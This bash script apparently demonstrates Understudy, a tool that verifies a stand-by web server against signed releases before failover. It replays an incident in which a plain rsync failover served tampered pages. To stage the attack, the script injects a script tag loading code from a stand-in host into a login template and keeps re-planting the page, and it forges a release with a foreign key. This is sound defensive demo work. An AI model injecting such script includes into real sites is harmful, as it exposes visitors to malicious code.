#!/bin/bash
# demo.sh - replays 6 July 2009: what visitors received when the stand-by took over the old way, and with Understudy.
#
#     understudy demo [--act day|switch|failover] [--keep] [--json] [--quiet] [--lang en|ja]
#
# Acts 1 to 5 are that day (`day`), 6 and 7 moves that Understudy makes by itself (`switch`, `failover`).
#
# Real nginx and PHP-FPM as production and stand-by, a visitor who opens pages throughout, the service address moved from
# one to the other. Nothing is staged but the attack: the numbers are counted from the bodies that the visitor received,
# by SHA-256, against what production gave before anything was planted; everything unknown counts as tampered.
#
# Exit status: 0 when the old way served tampered pages, Understudy none, what could not be proven was
# refused, and no visitor lost a page in a planned move;
# 1 when it went otherwise; 2 wrong use; 3 it could not be done.

# shellcheck source-path=SCRIPTDIR
# shellcheck disable=SC2154 # word_...: in words.LANGUAGE.sh
# shellcheck disable=SC2015 # A && B || fail: fail ends the script

set -u
here=$(cd "$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")" && pwd)
# shellcheck source=namespaces.sh
. "$here/namespaces.sh"
# shellcheck source=guard_act.sh
. "$here/guard_act.sh"
# shellcheck source=incident_act.sh
. "$here/incident_act.sh"
# shellcheck source=moves.sh
. "$here/moves.sh"

# ---------------------------------------------------------------- options, and what must be there

choose_words()
{
        language=${1:-${LANGUAGE:-${LC_ALL:-${LC_MESSAGES:-${LANG:-en}}}}}
        [[ $language == ja* ]] && language=ja || language=en
        # shellcheck source=words.en.sh
        # shellcheck disable=SC2034 # LAB_INTERRUPTED: in namespaces.sh
        . "$here/words.$language.sh"
        LAB_INTERRUPTED=$word_interrupted
}

# shellcheck disable=SC2059
fail()
{
        local status=$1
        shift
        printf "understudy: $word_failed\n" "${*#understudy: }" >&2
        exit "$status"
}

keep='' json='' quiet='' act=all
choose_words
# What other tools print is read here; C.UTF-8 is on every machine.
export LC_ALL=C.UTF-8
while [[ $# -gt 0 ]]; do
        case $1 in
        --keep) keep=yes ;;
        --json) json=yes ;;
        --quiet) quiet=yes ;;
        --act) [[ ${2:-} =~ ^(all|day|switch|failover)$ ]] || { echo "$word_usage" >&2 && exit 2; }
                act=$2
                shift ;;
        --lang) [[ $# -gt 1 ]] && choose_words "$2" && shift ;;
        --help) echo "$word_usage" && exit 0 ;;
        *) echo "$word_usage" >&2 && exit 2 ;;
        esac
        shift
done
with_day=yes
[[ $act != switch && $act != failover ]] || with_day=''

need_programs()
{
        local pair missing=()
        for pair in nginx:nginx-light rsync:rsync ip:iproute2 jq:jq curl:curl unshare:util-linux; do
                PATH=$PATH:/usr/sbin:/sbin command -v "${pair%%:*}" >/dev/null || missing+=("${pair#*:}")
        done
        lab_php_fpm >/dev/null || missing+=(php-fpm)
        # shellcheck disable=SC2059
        [[ ${#missing[@]} -eq 0 ]] || fail 3 "$(printf "$word_need_programs" "${missing[*]}")"
}

PATH=$PATH:/usr/sbin:/sbin
UNDERSTUDY=${UNDERSTUDY:-understudy}
UNDERSTUDY_VISITOR=${UNDERSTUDY_VISITOR:-$here/visitor}
UNDERSTUDY_PORTAL=${UNDERSTUDY_VISITOR%/*}/understudy-portal

if [[ -z ${LAB_FOLDER:-} ]]; then
        [[ $EUID -eq 0 ]] || fail 3 "$word_need_root"
        need_programs
        lab_place >/dev/null || fail 3 "$word_no_place"
        [[ $act == all ]] || set -- --act "$act"
        lab_enter "$keep" "$here/demo.sh" ${keep:+--keep} ${json:+--json} ${quiet:+--quiet} "$@" --lang "$language"
        exit
fi
unset LANGUAGE

# ---------------------------------------------------------------- what is shown

terminal=''
[[ -t 1 && -z $json && -z $quiet ]] && terminal=yes
red='' green='' bold='' plain=''
if [[ -n $terminal && -z ${NO_COLOR:-} ]]; then
        red=$'\e[31m' green=$'\e[32m' bold=$'\e[1m' plain=$'\e[0m'
fi

# When nobody reads any more, the show is over. (SIGPIPE does not say so to the first process of a namespace.)
say() { [[ -n $json || -n $quiet ]] || printf '%s\n' "$*" 2>/dev/null || exit 3; }
# shellcheck disable=SC2059
step() { say "  $(printf "$@")"; }
heading() { say && say "$bold$1$plain"; }

# A command as a person would type it: lines that do not fit end in a backslash.
command_line()
{
        local line="  \$ $1" word
        shift
        while [[ $# -gt 0 ]]; do
                word=$1
                shift
                # An option and its value stay together.
                [[ $word != --* || ${1:---} == --* ]] || { word+=" $1" && shift; }
                if [[ $((${#line} + ${#word})) -gt 75 ]]; then
                        say "$line \\"
                        line="        $word"
                else
                        line+=" $word"
                fi
        done
        say "$line"
}

columns() { printf '%s' "$1" | wc -L; }

# Words behind a text, so that all lines stand at the same column; Japanese letters are two columns wide.
pad()
{
        local width
        width=$(columns "$2")
        printf '%s%*s' "$2" "$(($1 > width ? $1 - width : 0))" ''
}

# A sentence of a command, folded to the terminal: at spaces, or, as Japanese is, between any two letters (but no line
# begins with a comma).
quote()
{
        local text=$1 line='' width=0 letter last i
        for ((i = 0; i < ${#text}; i++)); do
                letter=${text:i:1} last=${line##* }
                if [[ $width -lt 70 || $letter == [、。」] ]]; then
                        line+=$letter
                elif [[ $letter == [!\ -~] || $last == *[!\ -~]* || $last == "$line" || $letter == ' ' ]]; then
                        say "      $line"
                        line=${letter# } width=0
                else
                        say "      ${line% *}"
                        line=$last$letter width=${#last}
                fi
                [[ $letter == [\ -~] ]] && width=$((width + 1)) || width=$((width + 2))
        done
        say "      $line"
}

# ---------------------------------------------------------------- the visitor, and the count

service=192.0.2.80
known=known
log=visitor.log

# The pages that the visitor opens. He looks for the login page, as on that day.
pages='/ /login/ /prices.html /login/index.php /news/ /login/ /help/ /contact.php'

# What production gives, before anybody planted anything: path and SHA-256.
learn_known()
{
        local path
        for path in $(tr ' ' '\n' <<<"$pages" | sort -u); do
                curl -sf "http://192.0.2.77$path" >page || fail 3 "http://192.0.2.77$path"
                echo "$path $(sha256sum <page | cut -d' ' -f1)"
        done >"$known"
        rm -f page
}

position() { wc -l <"$log"; }

# count FROM [TO]: of these lines of the visitor's log, four numbers: pages received, of these from the stand-by, of these
# tampered (all but status 200 and the known bytes of this path), and pages that did not come.
count()
{
        awk -v from="$1" -v to="${2:-0}" '
                NR == FNR { known[$1] = $2; next }
                FNR <= from || (to && FNR > to) { next }
                $2 == 0 { unanswered++; next }
                { pages++ }
                $3 == "standby" { standby++ }
                $2 != 200 || !($5 in known) || known[$5] != $4 { tampered++ }
                END { print pages + 0, standby + 0, tampered + 0, unanswered + 0 }' "$known" "$log"
}

# watch SECONDS SERVER FROM: lets the visitor go on, and shows what he has received since FROM; of the stand-by, if that is
# the SERVER, only what came from there.
watch()
{
        local end=$((${EPOCHREALTIME/./} + $1 * 100000)) pages standby tampered colour text
        while :; do
                read -r pages standby tampered _ < <(count "$3")
                [[ $2 != "$word_standby" ]] || pages=$standby
                colour=$green
                [[ $tampered -eq 0 ]] || colour=$red
                # shellcheck disable=SC2059
                text=$(printf "$word_served" "$2" "$pages" "$tampered")
                [[ -z $terminal ]] || printf '\r  %s%s%s' "$colour" "$text" "$plain"
                [[ ${EPOCHREALTIME/./} -lt $end ]] || break
                sleep 0.2
        done
        if [[ -n $terminal ]]; then echo; else say "  $text"; fi
}

# A connection may hang for a moment in the move; the visitor is there when a page came from there.
wait_until_served_by()
{
        local end=$((SECONDS + 5))
        until [[ $(tail -n 1 "$log" | cut -d' ' -f3) == "$1" || $SECONDS -ge $end ]]; do
                sleep 0.05
        done
}

move_to_standby()
{
        step "$word_move_standby"
        lab_address_move "$service" production standby || fail 3 "$service"
        wait_until_served_by standby
}

move_to_production()
{
        step "$word_move_production"
        lab_address_move "$service" standby production || fail 3 "$service"
        wait_until_served_by production
}

# ---------------------------------------------------------------- the servers, and what was planted

set_times() { find "$1" -exec touch -h -d "$2" {} +; }

# As long ago both servers had the same pages; the news were written since.
build_sites()
{
        mkdir -p production standby repository &&
                cp -r "$here/site" production/site &&
                chmod -R u=rwX,go=rX production/site &&
                chown -R root:root production/site &&
                set_times production/site '2008-03-10 09:00 UTC' &&
                cp -a production/site standby/site &&
                touch -d '2009-07-05 18:30 UTC' production/site/news/index.html &&
                sed -i '/Maintenance on/,+1d' standby/site/news/index.html &&
                touch -d '2009-05-20 18:30 UTC' standby/site/news/index.html
}

# By hand, on the stand-by, long before the day.
plant()
{
        cp production/site/lib/templates/login.html planted.html &&
                sed -i 's|</main>|<script src="http://malware.invalid/x.js"></script>\n&|' planted.html &&
                cp planted.html standby/site/lib/templates/login.html &&
                sed -e 's|{title}|Log in|g; s|{action}|/login/|; s|{note}|Your user name is the name of your domain.|' \
                        planted.html >standby/site/login/index.html &&
                cp standby/site/login/index.html planted.html &&
                touch -d '2009-02-14 03:12 UTC' standby/site/login/index.html standby/site/lib/templates/login.html planted.html
}

start()
{
        cd "$LAB_FOLDER" || exit 3
        heading "$word_title"
        say
        say "$word_story"
        say "  $(pad 25 login/index.html) $word_planted_page"
        say "  $(pad 25 lib/templates/login.html) $word_planted_template"
        say "$word_story_end"
        say
        say "$word_count"
        heading "$word_start"
        lab_network && lab_host production 192.0.2.77 && lab_host standby 192.0.2.78 && lab_host publisher 192.0.2.70 &&
                lab_address production "$service" || fail 3 'ip'
        build_sites || fail 3 "$LAB_FOLDER"
        lab_serve production "$LAB_FOLDER/production/site" && lab_serve standby "$LAB_FOLDER/standby/site" &&
                lab_serve publisher "$LAB_FOLDER/repository" || fail 3 'nginx, php-fpm'
        step "$word_servers" 192.0.2.77 192.0.2.78
        learn_known
        plant || fail 3 "$LAB_FOLDER"
        tr ' ' '\n' <<<"$pages" >pages
        : >"$log"
        "$UNDERSTUDY_VISITOR" --pause 8 "http://$service" pages "$log" &
        day_visitor=$!
        step "$word_visitors" "http://$service"
        watch 15 "$word_production" 0
        act1_start=$(position)
}

# ---------------------------------------------------------------- act 1

act1()
{
        local copied
        heading "$word_act1"
        command_line rsync -au --out-format=%n production/site/ standby/site/
        copied=$(rsync -au --out-format=%n production/site/ standby/site/ | grep -v '/$')
        if [[ -n $copied ]]; then step "$word_copied" "$copied"; else step "$word_copied_nothing"; fi
        step "$word_old_believed"
        move_to_standby
        watch 40 "$word_standby" "$act1_start"
        move_to_production
        act2_start=$(position)
}

# ---------------------------------------------------------------- act 2

# understudy_run HOST ARGUMENT...: shows the command and runs it there; its JSON is in `answer`, its words in `words`.
understudy_run()
{
        local host=$1
        shift
        command_line understudy "$@"
        UNDERSTUDY_STATE=$LAB_FOLDER/$host/state \
                lab_in "$host" "$UNDERSTUDY" --lang "$language" "$@" --json >answer 2>words
}

# What differs, a line a path.
show_differences()
{
        local path kind what
        while IFS=$'\t' read -r path kind; do
                # shellcheck disable=SC2059
                case $kind in
                extra) what=$word_extra ;;
                content) what=$word_content ;;
                *) what=$(printf "$word_other" "$kind") ;;
                esac
                say "    $(pad 25 "$path") $what"
        done < <(jq -r "$1"' | .differences[] | [.path, .kind] | @tsv' answer)
}

admit_standby()
{
        understudy_run standby verify standby/site --pub release.pub
}

act2()
{
        local status release files
        heading "$word_act2"
        mkdir -p publisher keys
        "$UNDERSTUDY" keygen keys --no-password >/dev/null 2>words || fail 3 "$(cat words)"
        understudy_run publisher publish production/site --repo repository --key keys/release.key ||
                fail 3 "$(cat words)"
        cp keys/release.pub release.pub
        release=$(jq .release answer) files=$(jq .files answer)
        step "$word_published" "$release" "$files"

        understudy_run standby verify standby/site --repo http://192.0.2.70 --pub release.pub --release 1
        status=$?
        [[ $status -eq 1 ]] || fail 3 "$(cat words)"
        step "$word_verify_before"
        show_differences .
        cp answer found

        understudy_run standby pull standby/site --repo http://192.0.2.70 --pub release.pub --adopt
        status=$?
        [[ $status -le 1 ]] || fail 3 "$(cat words)"
        evidence=$(jq -r '.evidence // ""' answer)
        step "$word_pulled"

        if admit_standby; then
                step "$green$word_proven$plain" "$(jq .files answer)" "$(jq .release answer)"
                move_to_standby
                watch 40 "$word_standby" "$act2_start"
                move_to_production
        else
                step "$red$word_not_proven$plain" 1
                show_differences .
        fi
        act3_start=$(position)
}

# ---------------------------------------------------------------- act 3

# Not part of anything that is shown: he works in the dark.
intruder()
{
        while :; do
                cp -p planted.html standby/site/login/index.html 2>/dev/null
                sleep 0.02
        done
}

wait_for_intruder()
{
        local end=$((SECONDS + 5))
        until [[ -e standby/site/login/index.html || $SECONDS -ge $end ]]; do
                sleep 0.02
        done
}

# Moves nobody, unless the stand-by is proven.
move_if_proven()
{
        local status
        admit_standby
        status=$?
        if [[ $status -eq 0 ]]; then
                step "$red$word_not_refused$plain"
                act3_refused=false
                return
        fi
        step "$word_not_proven" "$status"
        show_differences .
        step "$green$word_refused$plain"
}

act3_page_comes_back()
{
        local status intruder
        step "$word_intruder"
        intruder &
        intruder=$!
        wait_for_intruder
        understudy_run standby pull standby/site --repo http://192.0.2.70 --pub release.pub
        status=$?
        [[ $status -le 1 ]] && step "$word_pulled_again" "$status"
        wait_for_intruder
        move_if_proven
        kill "$intruder"
        wait "$intruder" 2>/dev/null
}

# The repository's server is not trusted either.
act3_foreign_release()
{
        local status
        step "$word_foreign"
        mkdir -p foreign-keys && cp -a standby/site foreign-site &&
                "$UNDERSTUDY" keygen foreign-keys --no-password >/dev/null 2>&1 &&
                mv repository repository.genuine &&
                "$UNDERSTUDY" publish foreign-site --repo repository --key foreign-keys/release.key >/dev/null 2>&1 ||
                fail 3 "$word_foreign"
        understudy_run standby pull standby/site --repo http://192.0.2.70 --pub release.pub
        status=$?
        step "$word_foreign_refused" "$status"
        quote "$(sed 's/^understudy: //' words | tail -1)"
        if [[ $status -ge 3 ]]; then step "$green$word_refused$plain"; else act3_refused=false; fi
}

act3()
{
        act3_refused=true
        heading "$word_act3"
        act3_page_comes_back
        act3_foreign_release
        watch 15 "$word_production" "$act3_start"
        act3_end=$(position)
}

# ---------------------------------------------------------------- the end

# right WIDTH TEXT: like pad, with the text at the right.
right()
{
        local width
        width=$(columns "$2")
        printf '%*s%s' "$(($1 > width ? $1 - width : 0))" '' "$2"
}

# row WORDS PAGES STANDBY TAMPERED UNANSWERED
row() { say "  $(pad 20 "$1")$(right 14 "$2")$(right 16 "$3")$(right 11 "$4")$(right 12 "$5")"; }

table()
{
        local head guarded
        IFS='|' read -ra head <<<"$word_table_head"
        say "$bold$(row "${head[@]}")$plain"
        # shellcheck disable=SC2046 # four numbers
        {
                row "$word_row_before" $(count 0 "$act1_start")
                row "$word_row_act1" $(count "$act1_start" "$act2_start")
                row "$word_row_act2" $(count "$act2_start" "$act3_start")
                row "$word_row_act3" $(count "$act3_start" "$act3_end")
        }
        [[ $act4_good != left-out ]] || return 0
        read -ra guarded < <(count_guarded "$act4_start" "$act4_end")
        row "$word_row_act4" "${guarded[0]}" 0 "${guarded[1]}" "${guarded[2]}"
}

# Looked at here, because it will not stay: the first planted line that is kept as evidence.
show_evidence()
{
        local file number text
        heading "$word_where_evidence"
        # The folder of a stand-by is a long digest: shown so that a shell understands it, and a person, too.
        say "  $(sed -E "s|^$LAB_FOLDER/||; s|([0-9a-f]{8})[0-9a-f]{56}|\1*|" <<<"$evidence")"
        file=$(grep -rlF malware.invalid "$evidence" --include=index.html | head -n 1)
        [[ -n $file ]] || return
        IFS=: read -r number text < <(grep -nF malware.invalid "$file")
        step "$word_evidence_line" "$number" "${file#"$evidence"/}"
        say "      ${text:0:70}"
        if [[ -n $keep ]]; then
                step '%s' "$LAB_FOLDER"
                step "$word_kept"
        else
                step "$word_removed"
        fi
}

print_json()
{
        if [[ -z $with_day ]]; then
                jq -n --argjson good "$1" --slurpfile moves moves.json '{good: $good, moves: $moves[0]}'
                return
        fi
        # shellcheck disable=SC2046
        jq -n --argjson good "$1" --argjson refused "$act3_refused" --slurpfile found found --arg evidence "$evidence" '
                def act($name; $a): {act: $name, pages: $a[0], standby: $a[1], tampered: $a[2], unanswered: $a[3]};
                {good: $good, refused: $refused,
                 acts: [act("before"; $ARGS.positional[0:4]), act("rsync"; $ARGS.positional[4:8]),
                        act("understudy"; $ARGS.positional[8:12]), act("not proven"; $ARGS.positional[12:16])],
                 guard: $guard, incident: $incident, moves: $moves[0], found: $found[0].differences, evidence: $evidence}' \
                --argjson guard "$(act4_json)" --argjson incident "$(act5_json)" --slurpfile moves moves.json \
                --jsonargs $(count 0 "$act1_start") $(count "$act1_start" "$act2_start") \
                $(count "$act2_start" "$act3_start") $(count "$act3_start" "$act3_end")
}

# bad_acts: those that did not go as they should. That the stand-by did serve in act 2, and nobody in act 3, belongs to it.
bad_acts()
{
        local old new last
        if [[ -n $with_day ]]; then
                read -ra old < <(count "$act1_start" "$act2_start")
                read -ra new < <(count "$act2_start" "$act3_start")
                read -ra last < <(count "$act3_start" "$act3_end")
                [[ ${old[2]} -gt 0 ]] || echo 1
                [[ ${new[1]} -gt 0 && ${new[2]} -eq 0 ]] || echo 2
                [[ ${last[1]} -eq 0 && ${last[2]} -eq 0 && $act3_refused == true ]] || echo 3
                [[ $act4_good != false ]] || echo 4
                [[ $act5_good != false ]] || echo 5
        fi
        [[ $(jq -r .good moves.json) != false ]] || echo '6/7'
}

day()
{
        start
        act1
        act2
        act3
        act4
        act5
        kill "$day_visitor" && wait "$day_visitor"
}

finish()
{
        local good=true bad day_old day_new
        bad=$(bad_acts)
        [[ -z $bad ]] || good=false
        quiet='' # from here on it is the result
        say
        [[ -z $with_day ]] || table
        moves_table
        if [[ -n $with_day ]]; then
                heading "$word_found"
                cp found answer && show_differences .
                show_evidence
        fi
        say
        if [[ $good == false ]]; then
                # shellcheck disable=SC2059
                say "$red$(printf "$word_bad" "${bad//$'\n'/, }")$plain"
        else
                if [[ -n $with_day ]]; then
                        read -ra day_old < <(count "$act1_start" "$act2_start")
                        read -ra day_new < <(count "$act2_start" "$act3_start")
                        # shellcheck disable=SC2059
                        say "$bold$(printf "$word_good" "${day_old[2]}" "${day_new[2]}")$plain"
                fi
                [[ $(jq -r .good moves.json) != true ]] || say "$bold$word_moves_good$plain"
        fi
        [[ -z $json ]] || print_json "$good"
        [[ $good == true ]]
}

if [[ -n ${DEMO_MOVES:-} ]]; then
        moves_run
        exit
fi
cd "$LAB_FOLDER" || exit 3
echo '{"good": "left-out", "switch": null, "failover": null}' >moves.json
[[ -z $with_day ]] || day
[[ $act == day ]] || moves
finish
